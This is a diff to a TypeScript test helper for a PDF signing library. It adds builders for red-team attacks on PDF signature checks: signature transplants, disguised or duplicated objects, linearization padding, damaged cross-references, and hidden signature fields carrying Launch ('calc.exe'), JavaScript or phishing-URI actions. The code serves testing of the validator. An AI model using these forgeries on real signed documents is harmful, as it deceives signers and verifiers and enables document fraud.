@@ -19,6 +19,7 @@
  *
  * Node-only test helper.
  */
+import { execFileSync } from 'node:child_process';
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { buildCmsSignedData } from '../../packages/core/src/cms/signed-data';
@@ -44,6 +45,7 @@ import { listFields } from '../../packages/core/src/sign/fields';
 import { signerFromPkcs12 } from '../../packages/core/src/signer';
 import type { Signer } from '../../packages/core/src/signer/types';
 import { OID } from '../../packages/core/src/pki/oids';
+import { parseDer } from '../../packages/core/src/pki/der';
 import { IMAGES_DIR, INPUTS_DIR } from '../fixtures/paths';
 import {
   createCa,
@@ -331,6 +333,18 @@ export class Update {
     if (v instanceof PdfDict) return v;
     if (v instanceof PdfStream) return v.dict;
     throw new Error(`object ${ref.num} is not a dictionary`);
+  }
+
+  /**
+   * The objects this update would write, each as `n g obj ... endobj` text, for hand-written
+   * updates (`rawUpdate`, `rawStreamUpdate`) that need what no honest writer produces.
+   */
+  rawEntries(): { num: number; body: string; gen?: number }[] {
+    return [...this.pending.values()].map(({ ref, value }) => ({
+      num: ref.num,
+      gen: ref.gen,
+      body: objectBody(ref, value),
+    }));
   }
 
   /** The appended bytes and where each object landed (offsets relative to the update). */
@@ -727,12 +741,20 @@ export function fieldMdp(action: 'All' | 'Include' | 'Exclude', fields: string[]
   ];
 }
 
-export function fieldLockDict(action: 'All' | 'Include' | 'Exclude', fields: string[] = [], type = 'SigFieldLock'): PdfDict {
+export function fieldLockDict(
+  action: 'All' | 'Include' | 'Exclude',
+  fields: string[] = [],
+  type = 'SigFieldLock',
+): PdfDict {
   const d = new PdfDict([
     ['Type', N(type)],
     ['Action', N(action)],
   ]);
-  if (action !== 'All') d.set('Fields', fields.map((f) => PdfString.fromText(f)));
+  if (action !== 'All')
+    d.set(
+      'Fields',
+      fields.map((f) => PdfString.fromText(f)),
+    );
   if (type === 'TransformParams') d.set('V', N('1.2'));
   return d;
 }
@@ -764,11 +786,16 @@ export type RawEntry =
  * An incremental update written by hand with a classic table listing `entries` (one subsection
  * each): the bodies as given, so an object's `n g obj` header and its table entry can say anything.
  */
-export function rawUpdate(pdf: Uint8Array, entries: RawEntry[], opts: { prev?: number; trailerExtra?: string } = {}): Uint8Array {
+export function rawUpdate(
+  pdf: Uint8Array,
+  entries: RawEntry[],
+  opts: { prev?: number; trailerExtra?: string } = {},
+): Uint8Array {
   const doc = PdfDocument.load(pdf);
   let text = pdf[pdf.length - 1] === 0x0a ? '' : '\n';
   const rows: { num: number; line: string }[] = [];
-  const row = (off: number, gen: number, kind: 'n' | 'f') => `${String(off).padStart(10, '0')} ${String(gen).padStart(5, '0')} ${kind}\r\n`;
+  const row = (off: number, gen: number, kind: 'n' | 'f') =>
+    `${String(off).padStart(10, '0')} ${String(gen).padStart(5, '0')} ${kind}\r\n`;
   for (const e of entries) {
     if ('body' in e) {
       rows.push({ num: e.num, line: row(pdf.length + text.length, e.gen ?? 0, 'n') });
@@ -779,7 +806,8 @@ export function rawUpdate(pdf: Uint8Array, entries: RawEntry[], opts: { prev?: n
   rows.sort((a, b) => a.num - b.num);
   const xrefAt = pdf.length + text.length;
   const t = doc.latest.trailer;
-  const ref = (k: string) => (t.get(k) instanceof PdfRef ? ` /${k} ${(t.get(k) as PdfRef).num} ${(t.get(k) as PdfRef).gen} R` : '');
+  const ref = (k: string) =>
+    t.get(k) instanceof PdfRef ? ` /${k} ${(t.get(k) as PdfRef).num} ${(t.get(k) as PdfRef).gen} R` : '';
   const size = Math.max(doc.latest.size, ...entries.map((e) => e.num + 1));
   text += `xref\n${rows.map((r) => `${r.num} 1\n${r.line}`).join('')}`;
   text += `trailer\n<< /Size ${size}${ref('Root')}${ref('Info')} /Prev ${opts.prev ?? doc.startxref}${opts.trailerExtra ?? ''} >>\n`;
@@ -815,7 +843,9 @@ export async function sneakySignature(
   const r = await appendSignature(pdf, {
     kind: produce.kind,
     produce:
-      produce.kind === 'cms' ? cadesProducer(produce.signer) : (digest) => requestTimestamp(produce.tsa, digest, 'SHA-256'),
+      produce.kind === 'cms'
+        ? cadesProducer(produce.signer)
+        : (digest) => requestTimestamp(produce.tsa, digest, 'SHA-256'),
     attach: false,
     edit: (u, sigRef) => addSneakyField(u, widget, sigRef),
   });
@@ -841,7 +871,8 @@ function addSneakyField(u: Update, widget: SneakyWidget, sigRef?: PdfRef): void 
     ['P', page.ref],
   ]);
   if (sigRef) field.set('V', sigRef);
-  if (widget !== 'no-appearance') field.set('AP', new PdfDict([['N', textBox(u, x1 - x0, y1 - y0, 'Sidian fixture: AMOUNT 1,000,000')]]));
+  if (widget !== 'no-appearance')
+    field.set('AP', new PdfDict([['N', textBox(u, x1 - x0, y1 - y0, 'Sidian fixture: AMOUNT 1,000,000')]]));
   const ref = u.add(field);
   u.addAnnot(0, ref);
   u.addField(ref);
@@ -1700,4 +1731,707 @@ export function findObjectNum(pdf: Uint8Array, pred: (d: PdfDict, s?: PdfStream)
   }
   if (found === undefined) throw new Error('object not found');
   return found;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Attack classes of issue 14 (second red team): each rebuilt from a signed base, never a file
+// ---------------------------------------------------------------------------------------------
+
+/** `n g obj ... endobj` text of one object (streams with their /Length). */
+export function objectBody(ref: PdfRef, value: PdfObject): string {
+  if (value instanceof PdfStream) {
+    const d = value.dict.clone();
+    d.set('Length', value.data.length);
+    return `${ref.num} ${ref.gen} obj\n${serializeObject(d)}\nstream\n${Buffer.from(value.data).toString('latin1')}\nendstream\nendobj\n`;
+  }
+  return `${ref.num} ${ref.gen} obj\n${serializeObject(value)}\nendobj\n`;
+}
+
+/** What a hand-written cross-reference stream update holds. */
+export interface StreamUpdateSpec {
+  /** Objects written in plain and listed (full `n g obj ... endobj` text). */
+  objects?: { num: number; body: string; gen?: number }[];
+  /** Object numbers listed free. */
+  free?: number[];
+  /** A new object stream: its members in order, and the entries the xref stream gives them (default: each at its own index). */
+  objectStream?: { members: { num: number; body: string }[]; entries?: { num: number; index: number }[] };
+  /** Bytes written in the update before its cross-reference stream that no entry names. */
+  unlisted?: string;
+  /** Rows /Index declares beyond those the stream's data holds (an over-declared xref stream). */
+  overDeclare?: number;
+}
+
+/**
+ * An incremental update written by hand with a cross-reference stream (ISO 32000-2 §7.5.8),
+ * whatever the base uses: plain objects, free entries, an object stream whose header may say
+ * anything, and bytes that no entry names.
+ */
+export function rawStreamUpdate(pdf: Uint8Array, spec: StreamUpdateSpec): Uint8Array {
+  const doc = PdfDocument.load(pdf);
+  const view = doc.latest;
+  let next = Math.max(
+    view.size,
+    ...(spec.objects ?? []).map((o) => o.num + 1),
+    ...(spec.free ?? []).map((n) => n + 1),
+  );
+  let text = pdf[pdf.length - 1] === 0x0a ? '' : '\n';
+  const rows = new Map<number, [number, number, number]>();
+  for (const o of spec.objects ?? []) {
+    rows.set(o.num, [1, pdf.length + text.length, o.gen ?? 0]);
+    text += o.body;
+  }
+  for (const n of spec.free ?? []) rows.set(n, [0, 0, 1]);
+  if (spec.objectStream) {
+    const stm = next++;
+    const { members } = spec.objectStream;
+    let header = '';
+    let data = '';
+    for (const m of members) {
+      header += `${m.num} ${data.length} `;
+      data += m.body + '\n';
+    }
+    const body = header + data;
+    rows.set(stm, [1, pdf.length + text.length, 0]);
+    text += `${stm} 0 obj\n<< /Type /ObjStm /N ${members.length} /First ${header.length} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
+    const entries = spec.objectStream.entries ?? members.map((m, index) => ({ num: m.num, index }));
+    for (const e of entries) rows.set(e.num, [2, stm, e.index]);
+  }
+  text += spec.unlisted ?? '';
+  const xrefNum = next++;
+  const xrefAt = pdf.length + text.length;
+  rows.set(xrefNum, [1, xrefAt, 0]);
+  const nums = [...rows.keys()].sort((a, b) => a - b);
+  const index: number[] = [];
+  let data = '';
+  for (const n of nums) {
+    const [t, a, b] = rows.get(n)!;
+    index.push(n, 1);
+    data += String.fromCharCode(
+      t,
+      (a >>> 24) & 255,
+      (a >>> 16) & 255,
+      (a >>> 8) & 255,
+      a & 255,
+      (b >> 8) & 255,
+      b & 255,
+    );
+  }
+  if (spec.overDeclare) index.push(next + 100, spec.overDeclare);
+  const t = view.trailer;
+  const ref = (k: string) =>
+    t.get(k) instanceof PdfRef ? ` /${k} ${(t.get(k) as PdfRef).num} ${(t.get(k) as PdfRef).gen} R` : '';
+  const size = spec.overDeclare ? next + 100 + spec.overDeclare : next;
+  text += `${xrefNum} 0 obj\n<< /Type /XRef /Size ${size}${ref('Root')}${ref('Info')} /Prev ${doc.startxref} /W [1 4 2] /Index [${index.join(' ')}] /Length ${data.length} >>\nstream\n${data}\nendstream\nendobj\n`;
+  text += `startxref\n${xrefAt}\n%%EOF\n`;
+  return concat(pdf, new Uint8Array(Buffer.from(text, 'latin1')));
+}
+
+// --- 1. Signature transplant -----------------------------------------------------------------
+
+/** The bytes a signature of `pdf` signs (its two ranges), and its CMS. */
+export function signedPartOf(
+  pdf: Uint8Array,
+  which: 'first' | 'last' = 'last',
+): { signedBytes: Uint8Array; cms: Uint8Array } {
+  const loc = locateSignature(pdf, which);
+  const [, a, b, c] = loc.values;
+  // the gap of the ByteRange is the /Contents string (pyHanko writes `/Contents<` without a space)
+  const hexText = Buffer.from(pdf.subarray(a + 1, b - 1)).toString('latin1');
+  const padded = hexToBytes(hexText);
+  // the DER (or BER: pyHanko's ends in end-of-contents octets) without the zero padding
+  const cms = padded.subarray(0, parseDer(padded, { allowTrailing: true }).end);
+  return { signedBytes: concat(pdf.subarray(0, a), pdf.subarray(b, b + c)), cms };
+}
+
+function derLength(n: number): number[] {
+  if (n < 0x80) return [n];
+  const out: number[] = [];
+  for (let x = n; x > 0; x = Math.floor(x / 256)) out.unshift(x & 255);
+  return [0x80 | out.length, ...out];
+}
+
+function tlv(tag: number, content: Uint8Array): Uint8Array {
+  return concat(new Uint8Array([tag, ...derLength(content.length)]), content);
+}
+
+/**
+ * The CMS `cms` with `content` encapsulated (encapContentInfo gets an eContent [0] OCTET STRING):
+ * the signer's signature over the signed attributes still verifies, and its message-digest is
+ * the hash of `content`, so a verifier that checks a detached PDF signature against eContent
+ * accepts it on any document.
+ */
+export function withEncapsulatedContent(cms: Uint8Array, content: Uint8Array): Uint8Array {
+  const ci = parseDer(cms, { allowTrailing: true });
+  const sd = ci.children[1]!.children[0]!;
+  const encap = sd.children[2]!;
+  const oid = encap.children[0]!;
+  const newEncap = tlv(0x30, concat(oid.raw, tlv(0xa0, tlv(0x04, content))));
+  const sdBody = concat(...sd.children.map((c) => (c === encap ? newEncap : c.raw)));
+  return tlv(0x30, concat(ci.children[0]!.raw, tlv(0xa0, tlv(0x30, sdBody))));
+}
+
+/**
+ * Red team class 1: the CMS of the signature of `donor` (Sidian- or pyHanko-signed), its signed
+ * bytes added as eContent, appended as a new signature to `target`, under `subFilter`.
+ */
+export async function transplantSignature(
+  donor: Uint8Array,
+  target: Uint8Array,
+  subFilter: 'ETSI.CAdES.detached' | 'adbe.pkcs7.detached',
+  which: 'first' | 'last' = 'last',
+): Promise<Uint8Array> {
+  const { signedBytes, cms } = signedPartOf(donor, which);
+  const forged = withEncapsulatedContent(cms, signedBytes);
+  const r = await appendSignature(target, {
+    kind: 'cms',
+    produce: async () => forged,
+    contentsSize: Math.max(12 * 1024, forged.length + 16),
+    extra: [['SubFilter', N(subFilter)]],
+  });
+  return r.pdf;
+}
+
+// --- 2. Object and cross-reference streams that are page content -----------------------------
+
+/**
+ * Prepares an original (before signing) whose first page's content stream also says
+ * `/Type /ObjStm` (or `/Type /XRef`): viewers render it as content all the same.
+ */
+export function contentDisguisedAs(pdf: Uint8Array, type: 'ObjStm' | 'XRef'): Uint8Array {
+  return update(pdf, (u) => {
+    const c = firstContentRef(u.view);
+    const d = u.editDict(c);
+    d.set('Type', N(type));
+    if (type === 'ObjStm') {
+      d.set('N', 0);
+      d.set('First', 0);
+    } else {
+      d.set('W', [1, 1, 1]);
+      d.set('Size', 0);
+    }
+  });
+}
+
+export const DISGUISED_TEXT = 'Sidian fixture: AMOUNT CHANGED TO 9,999,999';
+
+/** After signing: the disguised content stream rewritten, still /Type /ObjStm or /XRef, drawing new text. */
+export function rewriteDisguisedContent(signed: Uint8Array): Uint8Array {
+  return update(signed, (u) => {
+    const c = firstContentRef(u.view);
+    const old = u.view.get(c.num) as PdfStream;
+    const d = old.dict.clone();
+    d.delete('Filter');
+    d.delete('DecodeParms');
+    u.set(c, new PdfStream(d, latin1Bytes(`BT /F1 24 Tf 72 700 Td (${DISGUISED_TEXT}) Tj ET\n`)));
+  });
+}
+
+/**
+ * After signing: the signed revision's own cross-reference stream object, or its first object
+ * stream (its objects kept as they were, with more bytes after them), rewritten in place.
+ */
+export function rewriteStructuralObject(signed: Uint8Array, type: 'ObjStm' | 'XRef'): Uint8Array {
+  const num = findObjectNum(signed, (d) => d.name('Type') === type);
+  const text = 'BT /F1 24 Tf 72 700 Td (REWRITTEN STRUCT) Tj ET';
+  let dict = `<< /Type /XRef /W [1 1 1] /Size 0 /Length ${text.length} >>`;
+  let data = text;
+  if (type === 'ObjStm') {
+    const old = PdfDocument.load(signed).latest.get(num) as PdfStream;
+    data = Buffer.from(decodeStream(old)).toString('latin1') + '\n' + text;
+    dict = `<< /Type /ObjStm /N ${old.dict.get('N') as number} /First ${old.dict.get('First') as number} /Length ${data.length} >>`;
+  }
+  return rawStreamUpdate(signed, {
+    objects: [{ num, body: `${num} 0 obj\n${dict}\nstream\n${data}\nendstream\nendobj\n` }],
+  });
+}
+
+// --- 3. A linearized original whose /L is reached after signing ------------------------------
+
+/** The linearization dictionary's object (first in the file) rewritten with `/L` = `length`, in the same bytes. */
+export function withLinearizedLength(pdf: Uint8Array, length: number): Uint8Array {
+  const s = Buffer.from(pdf).toString('latin1');
+  const m = /^(%PDF-[^\n]*\n(?:%[^\n]*\n)?)(\d+ 0 obj\s*<<[^]*?>>\s*endobj)([ \r\n]*)(?=xref|\d+ 0 obj)/.exec(
+    s,
+  );
+  if (!m) throw new Error('no linearization dictionary at the start');
+  const region = m[2]! + m[3]!;
+  const rewritten = m[2]!.replace(/\/L\s+\d+/, `/L ${length}`);
+  if (rewritten.length + 1 > region.length) throw new Error('no room for /L');
+  const padded = rewritten + ' '.repeat(region.length - rewritten.length - 1) + '\n';
+  return new Uint8Array(Buffer.from(m[1]! + padded + s.slice(m[0].length), 'latin1'));
+}
+
+/** The same linearized input with a cross-reference stream and object streams (qpdf). */
+export function linearizedWithStreams(dir: string): Uint8Array {
+  const src = path.join(INPUTS_DIR, 'linearized.pdf');
+  const out = path.join(dir, `linearized-objstm-${Date.now()}.pdf`);
+  execFileSync('qpdf', ['--linearize', '--object-streams=generate', '--deterministic-id', src, out]);
+  return new Uint8Array(readFileSync(out));
+}
+
+export const LINEARIZED_HONEST_TEXT = 'Sidian fixture: the text the signer saw';
+
+/**
+ * Red team class 3: the attacker's original is a linearized file (`linearized`) followed by an
+ * update that changes page 1 to what the signer is meant to see; its linearization dictionary's
+ * /L is set to the length the file will have after `sign` and the attacker's `after` (padding by
+ * default). Linearization-aware readers (pdf.js, poppler) then read only the first-page
+ * cross-reference and its revision: the content before the update, not what was signed.
+ */
+export async function linearizedPaddingAttack(
+  linearized: Uint8Array,
+  sign: (pdf: Uint8Array) => Promise<Uint8Array>,
+  after: (signed: Uint8Array) => Uint8Array | Promise<Uint8Array> = (x) => x,
+): Promise<{ original: Uint8Array; signed: Uint8Array; attacked: Uint8Array }> {
+  const build = async (length: number) => {
+    const base = withLinearizedLength(linearized, length);
+    const original = update(base, (u) => {
+      const c = firstContentRef(u.view);
+      u.set(c, stream(`BT /F1 24 Tf 72 700 Td (${LINEARIZED_HONEST_TEXT}) Tj ET\n`));
+    });
+    const signed = await sign(original);
+    return { original, signed, after: await after(signed) };
+  };
+  const probe = await build(999_999);
+  const target = probe.after.length + 200;
+  const real = await build(target);
+  if (real.after.length !== probe.after.length) throw new Error('signing is not length-deterministic');
+  const pad = target - real.after.length;
+  // whitespace only: nothing a verifier could call an unsigned change
+  const attacked = concat(real.after, latin1Bytes(' '.repeat(pad - 1) + '\n'));
+  return { original: real.original, signed: real.signed, attacked };
+}
+
+// --- 4. One object number twice in a new object stream ---------------------------------------
+
+/**
+ * Red team class 4: an update adds an invisible, empty signature field whose widget sits in a new
+ * object stream twice: the copy the cross-reference names is invisible; the other is drawn over
+ * the page with a Launch action. MuPDF takes the first copy, pdf.js the last.
+ */
+export function duplicateInObjectStream(
+  signed: Uint8Array,
+  order: 'visible-first' | 'visible-last' = 'visible-last',
+): Uint8Array {
+  const u = new Update(signed);
+  const widget = u.allocate();
+  const page = u.page(0);
+  const plain = new PdfDict([
+    ['Type', N('Annot')],
+    ['Subtype', N('Widget')],
+    ['FT', N('Sig')],
+    ['T', PdfString.fromText(`dup-${++fieldCounter}`)],
+    ['Rect', [0, 0, 0, 0]],
+    ['F', 132],
+    ['P', page.ref],
+  ]);
+  const [x0, y0, x1, y1] = MARKER_RECT as [number, number, number, number];
+  const ap = textBox(u, x1 - x0, y1 - y0, 'Sidian fixture: AMOUNT 1,000,000');
+  const shown = plain.clone();
+  shown.set('Rect', [x0, y0, x1, y1]);
+  shown.set('F', 4);
+  shown.set('AP', new PdfDict([['N', ap]]));
+  shown.set(
+    'A',
+    new PdfDict([
+      ['S', N('Launch')],
+      ['F', PdfString.latin1('calc.exe')],
+    ]),
+  );
+  u.addAnnot(0, widget);
+  u.addField(widget);
+  const a = `${serializeObject(plain)}`;
+  const b = `${serializeObject(shown)}`;
+  const members = order === 'visible-last' ? [a, b] : [b, a];
+  const invisibleIndex = order === 'visible-last' ? 0 : 1;
+  return rawStreamUpdate(signed, {
+    objects: u.rawEntries(),
+    objectStream: {
+      members: members.map((body) => ({ num: widget.num, body })),
+      entries: [{ num: widget.num, index: invisibleIndex }],
+    },
+  });
+}
+
+// --- 5. Object headers after a delimiter, in an over-declared xref stream update -------------
+
+/**
+ * Red team class 5: an update whose cross-reference stream declares more entries than it holds
+ * (MuPDF then rebuilds the cross-reference from the object headers it finds) and that redefines
+ * page 1's content stream after a delimiter (`(x)5 0 obj`, `[]5 0 obj`), listed in no entry.
+ */
+export function delimiterRedefinition(signed: Uint8Array, delimiter: '(x)' | '[]' | '>>'): Uint8Array {
+  const view = PdfDocument.load(signed).latest;
+  const c = firstContentRef(view);
+  const content = `BT /F1 24 Tf 72 700 Td (${DISGUISED_TEXT}) Tj ET`;
+  return rawStreamUpdate(signed, {
+    unlisted: `% padding\n${delimiter}${c.num} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`,
+    overDeclare: 40,
+  });
+}
+
+// --- 6, 7. New signature fields that carry actions -------------------------------------------
+
+export type ActionKind = 'javascript' | 'launch' | 'uri' | 'page-open';
+export const ACTION_KINDS: ActionKind[] = ['javascript', 'launch', 'uri', 'page-open'];
+
+function actionEntry(kind: ActionKind): [string, PdfObject] {
+  const js = new PdfDict([
+    ['S', N('JavaScript')],
+    ['JS', PdfString.latin1('app.alert("Sidian fixture: action added after signing")')],
+  ]);
+  switch (kind) {
+    case 'javascript':
+      return ['A', js];
+    case 'launch':
+      return [
+        'A',
+        new PdfDict([
+          ['S', N('Launch')],
+          ['F', PdfString.latin1('calc.exe')],
+        ]),
+      ];
+    case 'uri':
+      return [
+        'A',
+        new PdfDict([
+          ['S', N('URI')],
+          ['URI', PdfString.latin1('https://example.invalid/phish')],
+        ]),
+      ];
+    case 'page-open':
+      return ['AA', new PdfDict([['PO', js]])];
+  }
+}
+
+/**
+ * Red team classes 6 and 7: a new, invisible (zero-size, hidden) signature field whose widget
+ * carries an action, left empty, signed (`cms`) or filled with a document time-stamp.
+ */
+export async function actionSignatureField(
+  pdf: Uint8Array,
+  kind: ActionKind,
+  fill: { kind: 'empty' } | { kind: 'cms'; signer: Signer } | { kind: 'doc-timestamp'; tsa: Tsa },
+): Promise<Uint8Array> {
+  const addField = (u: Update, sigRef?: PdfRef) => {
+    const page = u.page(0);
+    const field = new PdfDict([
+      ['Type', N('Annot')],
+      ['Subtype', N('Widget')],
+      ['FT', N('Sig')],
+      ['T', PdfString.fromText(`action-${kind}-${++fieldCounter}`)],
+      ['Rect', [0, 0, 0, 0]],
+      ['F', 4 | 2],
+      ['P', page.ref],
+      actionEntry(kind),
+    ]);
+    if (sigRef) field.set('V', sigRef);
+    const ref = u.add(field);
+    u.addAnnot(0, ref);
+    u.addField(ref);
+    u.acroForm().set('SigFlags', 3);
+  };
+  if (fill.kind === 'empty') return update(pdf, (u) => addField(u));
+  const r = await appendSignature(pdf, {
+    kind: fill.kind,
+    produce:
+      fill.kind === 'cms'
+        ? cadesProducer(fill.signer)
+        : (digest) => requestTimestamp(fill.tsa, digest, 'SHA-256'),
+    attach: false,
+    edit: (u, sigRef) => addField(u, sigRef),
+  });
+  return r.pdf;
+}
+
+// --- 8. A later signature removed with its objects freed -------------------------------------
+
+/**
+ * Red team class 8: an update that takes the newest signature out of /Fields and /Annots and
+ * frees its field, widget and signature dictionary (and, with `overwrite`, writes `null` over the
+ * signature dictionary instead of freeing it). Written with the base's own kind of cross-reference.
+ */
+export function removeNewestSignatureFreed(
+  signed: Uint8Array,
+  mode: 'free' | 'overwrite' = 'free',
+): Uint8Array {
+  const doc = PdfDocument.load(signed);
+  const view = doc.latest;
+  const sigs = listFields(view).filter((f) => f.type === 'Sig' && f.dict.get('V') instanceof PdfRef && f.ref);
+  const newest = sigs.sort(
+    (a, b) =>
+      view.offsetOf((b.dict.get('V') as PdfRef).num)! - view.offsetOf((a.dict.get('V') as PdfRef).num)!,
+  )[0]!;
+  const u = new Update(signed);
+  const gone = new Set([newest.ref!.num, ...newest.widgets.flatMap((w) => (w.ref ? [w.ref.num] : []))]);
+  const drop = (a: PdfObject[]) => a.filter((x) => !(x instanceof PdfRef && gone.has(x.num)));
+  const acro = u.acroForm();
+  const fields = acro.get('Fields');
+  if (fields instanceof PdfRef) u.set(fields, drop(u.view.array(fields) ?? []));
+  else acro.set('Fields', drop((fields as PdfObject[]) ?? []));
+  for (const [i, p] of u.pages().entries()) {
+    const annots = p.dict.get('Annots');
+    const arr = u.view.array(annots);
+    if (!arr?.some((x) => x instanceof PdfRef && gone.has(x.num))) continue;
+    if (annots instanceof PdfRef) u.set(annots, drop(arr));
+    else u.editDict(u.page(i).ref).set('Annots', drop(arr));
+  }
+  const sigNum = (newest.dict.get('V') as PdfRef).num;
+  const objects = u.rawEntries();
+  const free = [...gone];
+  if (mode === 'free') free.push(sigNum);
+  else objects.push({ num: sigNum, body: `${sigNum} 0 obj\nnull\nendobj\n` });
+  if (doc.sections[0]!.kind === 'stream') return rawStreamUpdate(signed, { objects, free });
+  return rawUpdate(signed, [...objects, ...free.map((num) => ({ num, free: true as const }))]);
+}
+
+// --- 9. An update with a damaged cross-reference that redefines widgets ----------------------
+
+/**
+ * Red team class 9: after the signature, an update that redefines a form widget of page 1 so that
+ * it covers `MARKER_RECT` with a new appearance, while its cross-reference is damaged: `offsets`
+ * past the end of the file, or `startxref` pointing into the update (at its first object).
+ */
+export type XrefDamage = 'offsets-past-eof' | 'startxref-into-update' | 'unlisted-redefinition';
+export const XREF_DAMAGES: XrefDamage[] = [
+  'offsets-past-eof',
+  'startxref-into-update',
+  'unlisted-redefinition',
+];
+
+export function damagedWidgetUpdate(signed: Uint8Array, damage: XrefDamage): Uint8Array {
+  const view = PdfDocument.load(signed).latest;
+  const fields = listFields(view);
+  const field =
+    fields.find((f) => f.type === 'Tx' && f.widgets[0]?.ref) ?? fields.find((f) => f.widgets[0]?.ref)!;
+  const w = field.widgets[0]!;
+  const u = new Update(signed);
+  const [x0, y0, x1, y1] = MARKER_RECT as [number, number, number, number];
+  const ap = textBox(u, x1 - x0, y1 - y0, 'Sidian fixture: AMOUNT 1,000,000');
+  const d = u.editDict(w.ref!);
+  d.set('Rect', [x0, y0, x1, y1]);
+  d.set('AP', new PdfDict([['N', ap]]));
+  const entries = u.rawEntries();
+  if (damage === 'unlisted-redefinition') {
+    // the table lists one new, unreferenced object, at an offset past the end of the file (MuPDF
+    // then rebuilds the cross-reference); the widget and its appearance are written in the update
+    // but listed nowhere
+    // each header after a delimiter, as MuPDF's repair reads them
+    const bodies = entries.map((e) => `[]${e.body}`).join('');
+    const spare = view.size + 50;
+    const out = rawUpdate(signed, [{ num: spare, offset: signed.length + 100_000 }]);
+    const s = Buffer.from(out).toString('latin1');
+    const at = s.indexOf('xref', signed.length);
+    const shifted =
+      s.slice(0, at) + bodies + s.slice(at).replace(/startxref\n\d+/, `startxref\n${at + bodies.length}`);
+    return new Uint8Array(Buffer.from(shifted, 'latin1'));
+  }
+  const out = rawUpdate(signed, entries);
+  const s = Buffer.from(out).toString('latin1');
+  const tail = s.slice(signed.length);
+  if (damage === 'offsets-past-eof') {
+    // every offset of the update's table moved 100 000 bytes past the end
+    const fixed = tail.replace(
+      /^(\d{10}) (\d{5}) n/gm,
+      (_m, off: string, gen: string) => `${String(Number(off) + 100_000).padStart(10, '0')} ${gen} n`,
+    );
+    return new Uint8Array(Buffer.from(s.slice(0, signed.length) + fixed, 'latin1'));
+  }
+  const firstObj = signed.length + tail.search(/\d+ 0 obj/);
+  const fixed = tail.replace(/startxref\n\d+\n%%EOF\n$/, `startxref\n${firstObj}\n%%EOF\n`);
+  return new Uint8Array(Buffer.from(s.slice(0, signed.length) + fixed, 'latin1'));
+}
+
+// --- Also wrong before: shared appearance dictionaries, UR3, choice fields -------------------
+
+/**
+ * Prepares an original whose empty signature field `name` has an indirect appearance dictionary
+ * (`/AP n 0 R`) that the trailer (or, with `where: 'custom-key'`, the catalog under a custom key)
+ * refers to as well.
+ */
+export function shareAppearanceDict(
+  pdf: Uint8Array,
+  name: string,
+  where: 'trailer' | 'custom-key' | 'info' | 'nowhere',
+): Uint8Array {
+  const u = new Update(pdf);
+  const field = listFields(u.view).find((f) => f.fullName === name)!;
+  const w = field.widgets[0]!;
+  const rect = (u.view.array(w.dict.get('Rect')) ?? [0, 0, 100, 50]).map((x) => u.view.number(x) ?? 0);
+  const apStream = u.add(
+    formXObject(Math.abs(rect[2]! - rect[0]!), Math.abs(rect[3]! - rect[1]!), '0 0 1 RG 1 1 10 10 re S\n'),
+  );
+  const apDict = u.add(new PdfDict([['N', apStream]]));
+  u.editDict(w.ref!).set('AP', apDict);
+  if (where === 'custom-key') u.catalog().set('SidianCustom', apDict);
+  const raw = u.rawEntries();
+  if (where === 'custom-key' || where === 'nowhere') return rawUpdate(pdf, raw);
+  if (where === 'info') {
+    const out = rawUpdate(pdf, raw);
+    return editLastTrailer(out, (t) => t.replace(/\/Info \d+ 0 R/, `/Info ${apDict.num} 0 R`));
+  }
+  return rawUpdate(pdf, raw, { trailerExtra: ` /SidianShared ${apDict.num} 0 R` });
+}
+
+/**
+ * After signing the prepared original: a later signature's update signs field `name` and rewrites
+ * its shared appearance dictionary in place (its /N now a new stream drawing text).
+ */
+export async function signRewritingSharedAppearance(
+  pdf: Uint8Array,
+  name: string,
+  signer: Signer,
+): Promise<Uint8Array> {
+  const view = PdfDocument.load(pdf).latest;
+  const field = listFields(view).find((f) => f.fullName === name)!;
+  const apRef = field.widgets[0]!.dict.get('AP') as PdfRef;
+  const r = await appendSignature(pdf, {
+    kind: 'cms',
+    produce: cadesProducer(signer),
+    attach: false,
+    edit: (u, sigRef) => {
+      u.editDict(field.ref!).set('V', sigRef);
+      const apStream = textBox(u, 200, 80, 'Sidian fixture: SHARED APPEARANCE');
+      u.editDict(apRef).set('N', apStream);
+    },
+  });
+  return r.pdf;
+}
+
+/**
+ * Prepares an original with a usage-rights signature dictionary (`/Perms /UR3`, as Adobe Reader
+ * extensions carry; its /Contents is a placeholder, not a real signature) in the catalog.
+ */
+export function withUsageRights(pdf: Uint8Array): Uint8Array {
+  return update(pdf, (u) => {
+    const ur3 = u.add(
+      new PdfDict([
+        ['Type', N('Sig')],
+        ['Filter', N('Adobe.PPKLite')],
+        ['SubFilter', N('adbe.pkcs7.detached')],
+        ['ByteRange', [0, 0, 0, 0]],
+        ['Contents', new PdfRaw('<' + '0'.repeat(64) + '>')],
+        [
+          'Reference',
+          [
+            new PdfDict([
+              ['Type', N('SigRef')],
+              ['TransformMethod', N('UR3')],
+              [
+                'TransformParams',
+                new PdfDict([
+                  ['Type', N('TransformParams')],
+                  ['V', N('2.2')],
+                  ['Form', [N('FillIn')]],
+                ]),
+              ],
+            ]),
+          ],
+        ],
+      ]),
+    );
+    u.catalog().set('Perms', new PdfDict([['UR3', ur3]]));
+  });
+}
+
+/** Prepares an original with a combo-box choice field "colour" (options red, green, blue; red chosen) on page 1. */
+export function withChoiceField(pdf: Uint8Array): Uint8Array {
+  return update(pdf, (u) => {
+    const helv = acroFormFont(u.view);
+    const res = new PdfDict(helv ? [['Font', new PdfDict([['Helv', helv]])]] : []);
+    const ap = u.add(formXObject(120, 20, '/Tx BMC q BT /Helv 12 Tf 0 g 3 5 Td (red) Tj ET Q EMC\n', res));
+    const field = u.add(
+      new PdfDict([
+        ['Type', N('Annot')],
+        ['Subtype', N('Widget')],
+        ['FT', N('Ch')],
+        ['Ff', 1 << 17],
+        ['T', PdfString.fromText('colour')],
+        ['Opt', [PdfString.latin1('red'), PdfString.latin1('green'), PdfString.latin1('blue')]],
+        ['V', PdfString.latin1('red')],
+        ['I', [0]],
+        ['DA', PdfString.latin1('/Helv 12 Tf 0 g')],
+        ['Rect', [350, 200, 470, 220]],
+        ['F', 4],
+        ['P', u.page(0).ref],
+        ['AP', new PdfDict([['N', ap]])],
+      ]),
+    );
+    u.addAnnot(0, field);
+    u.addField(field);
+  });
+}
+
